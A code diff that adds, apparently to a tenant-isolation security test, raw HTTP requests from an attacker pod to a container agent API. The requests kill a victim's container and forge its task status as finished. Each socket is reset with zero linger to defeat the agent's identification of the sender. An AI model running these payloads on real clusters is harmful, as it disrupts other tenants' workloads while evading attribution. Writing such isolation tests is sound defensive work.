@@ -92,6 +92,37 @@ try:
 except OSError as e:
     results["fs_read"] = [403, repr(e)]
 
+# Fire and reset: send, then close with a zero linger at once, so the
+# socket is gone before the agent can ask the kernel who held it. The
+# answer is never read; the test checks the victim is untouched.
+def fire_and_reset(path, body):
+    import socket
+    import struct
+    import time
+    host, port = agent.split("//", 1)[1].split(":")
+    data = json.dumps(body).encode()
+    head = ("POST %s HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
+            "Accept: application/json\r\nContent-Length: %d\r\n" % (path, len(data)))
+    if token:
+        head += "Authorization: Bearer %s\r\n" % token
+    for _ in range(20):
+        s = socket.create_connection((host, int(port)))
+        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+        s.sendall(head.encode() + b"\r\n" + data)
+        s.close()
+        time.sleep(0.01)
+
+
+fire_and_reset("/api/v1", {"type": "KILL_CONTAINER",
+               "kill_container": {"container_id": cid(task, root), "signal": 9}})
+fire_and_reset("/api/v1/executor", {"type": "UPDATE",
+               "framework_id": {"value": victim["framework"]},
+               "executor_id": {"value": victim["executor"]},
+               "update": {"status": {"task_id": {"value": victim["task_id"]},
+                                     "state": "TASK_FINISHED", "source": "SOURCE_EXECUTOR",
+                                     "uuid": "AQEBAQEBAQEBAQEBAQEBAQ==",
+                                     "executor_id": {"value": victim["executor"]}}}})
+
 # Controls: the attacker's own pod.
 call("own_health", "/api/v1", {"type": "GET_HEALTH"})
 call("own_files", "/api/v1", {"type": "LIST_FILES", "list_files": {"path": os.getcwd()}})
